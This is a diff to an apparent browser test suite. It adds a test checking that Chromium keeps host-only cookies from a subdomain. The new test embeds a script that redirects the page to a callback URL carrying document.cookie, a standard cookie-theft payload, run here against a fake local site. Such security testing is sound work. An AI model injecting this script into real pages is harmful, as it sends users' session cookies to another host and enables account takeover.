@@ -13,7 +13,7 @@ from fakes.wire.purposes import Purpose
 from fakes.wire.request import Request
 from suites.harness.browser.test_chromium_login import CREDENTIALS
 from suites.harness.given.login_pages import BOTH, DONE, form
-from suites.harness.given.sites import APP, CALLBACK, OP, Answer, Site, site
+from suites.harness.given.sites import APP, CALLBACK, OP, Answer, Site, site, to
 from suites.protocol.session.cookies import cookies_of
 
 
@@ -168,6 +168,17 @@ def test_chromium_has_the_cookies_as_they_were_set(chromium: ChromiumDriver) -> 
         assert chromium.log_in(browser, landing, CREDENTIALS, watch=CALLBACK).left
         assert running.sent("login")["seen"] == "a=1; e=5"
         assert browser.jar.for_scripts(OP) == before
+
+
+def test_another_host_sees_none_that_is_for_its_host_alone(chromium: ChromiumDriver) -> None:
+    script = f"location.href = '{CALLBACK}?code=' + document.cookie"
+    answers = {
+        "/start": page("", "a=1; Path=/", "e=5; Path=/; Domain=op.example"),
+        "/login": to("http://sub.op.example/next"),
+        "sub.op.example/next": f"<body><script>{script}</script>",
+    }
+    with site(answers, "sub.op.example") as running:
+        assert enter(chromium, running.browser()).params == {"code": "e=5"}
 
 
 @pytest.mark.parametrize(
